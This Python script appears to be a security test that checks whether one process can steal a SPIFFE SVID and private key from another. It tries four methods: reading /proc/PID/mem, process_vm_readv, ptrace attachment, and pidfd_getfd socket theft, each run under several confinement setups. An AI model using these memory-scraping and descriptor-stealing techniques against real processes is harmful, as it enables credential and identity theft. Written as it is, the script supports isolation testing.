"""An allowed program holds an SVID and asks for nothing more; another process takes it from there.

memory      reads its memory by /proc/PID/mem
vm          reads its memory by process_vm_readv
traced      attaches to it, and reads then
descriptor  takes its connection (pidfd_getfd) and asks on it

In what manner: `launched`, the holder is an agent; `hidden`, it is not dumpable; `agent`, the thief is an agent; `unconfined`, one without a domain.
"""

import ctypes
import os
import socket
import struct
import subprocess
import sys

from attacker import INTERPRETER, Reader, answer, argument, become, call, connect, failed_call, libc, opening, say

ME = os.path.abspath(__file__)
PTRACE_SEIZE, PR_SET_DUMPABLE = 0x4206, 4
PIDFD_OPEN, PIDFD_GETFD, VM_READV = 434, 438, 310
KEY = bytes.fromhex("308187020100301306072a8648ce3d020106082a8648ce3d030107046d306b0201010420")


def victim(ready, manner):
    if manner == "hidden":
        libc.prctl(PR_SET_DUMPABLE, 0, 0, 0, 0)
    connection = connect()
    connection.sendall(opening() + call())
    reader = Reader(connection)
    reader.until_answer()
    os.write(ready, struct.pack("i", connection.fileno()))
    sys.stdin.read()


def readable(pid):
    with open(f"/proc/{pid}/maps") as maps:
        for line in maps:
            span, mode = line.split()[:2]
            start, end = (int(text, 16) for text in span.split("-"))
            if mode.startswith("rw") and end - start < 1 << 28:
                yield start, end


def by_mem(pid):
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        for start, end in readable(pid):
            try:
                memory.seek(start)
                yield memory.read(end - start)
            except OSError:
                continue


def by_vm(pid):
    for start, end in readable(pid):
        buffer = ctypes.create_string_buffer(end - start)
        mine = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), end - start)
        theirs = (ctypes.c_uint64 * 2)(start, end - start)
        got = libc.syscall(VM_READV, pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        if got < 0:
            raise PermissionError(failed_call("process_vm_readv"))
        yield buffer.raw[:got]


def steal_key(pieces):
    for piece in pieces:
        at = piece.find(KEY)
        if at >= 0:
            # As it was received: SPIFFE ID, certificates, then the key.
            return say(stolen=piece[max(0, at - 8192) : at + 138].hex())
    say(nothing="no key in sight")


def steal_descriptor(pid, number):
    handle = libc.syscall(PIDFD_OPEN, pid, 0)
    taken = libc.syscall(PIDFD_GETFD, handle, number, 0)
    if taken < 0:
        return say(nothing=failed_call("pidfd_getfd"))
    connection = socket.socket(fileno=taken)
    connection.sendall(call(3))
    answer(connection, 3)


def steal(how, holder, number):
    try:
        if how == "descriptor":
            return steal_descriptor(holder, number)
        if how == "vm":
            return steal_key(by_vm(holder))
        if how == "traced" and libc.ptrace(PTRACE_SEIZE, holder, None, None) != 0:
            return say(nothing=failed_call("ptrace"))
        steal_key(by_mem(holder))
    except OSError as error:
        say(nothing=error.strerror or str(error))


def steal_as_agent(manner, how, holder, number):
    """The thief is an agent, in a domain unless it is launched without one."""
    without = ["--no-confine"] if manner == "unconfined" else []
    run = [os.environ["ATTACK_MANDATE"], "run", "-q", "--name", "thief", *without, "--"]
    subprocess.run([*run, "/usr/bin/python3", ME, "thief", how, str(holder), str(number)])


def main(how, thief, manner):
    reading, writing = os.pipe()
    os.set_inheritable(writing, True)
    keep_reading, keep_writing = os.pipe()
    uid = int(os.environ["ATTACK_UID"])
    holder = os.fork()
    if holder == 0:
        os.close(keep_writing)
        os.dup2(keep_reading, 0)
        if os.getuid() == 0 and uid != 0:
            become(uid)
        command = [INTERPRETER, ME, "victim", str(writing), manner]
        if manner == "launched":
            command = [os.environ["ATTACK_MANDATE"], "run", "-q", "--name", "victim", "--", *command]
        os.execv(command[0], command)
    os.close(writing)
    told = os.read(reading, 4)
    if len(told) < 4:
        return say(nothing="the victim got no SVID")
    (number,) = struct.unpack("i", told)
    if thief and int(thief) != os.getuid():
        become(int(thief))
    if manner in ("agent", "unconfined"):
        steal_as_agent(manner, how, holder, number)
    else:
        steal(how, holder, number)
    os.close(keep_writing)


if __name__ == "__main__":
    if argument() == "victim":
        victim(int(argument(2)), argument(3))
    elif argument() == "thief":
        steal(argument(2), int(argument(3)), int(argument(4)))
    else:
        main(argument(), argument(2), argument(3))
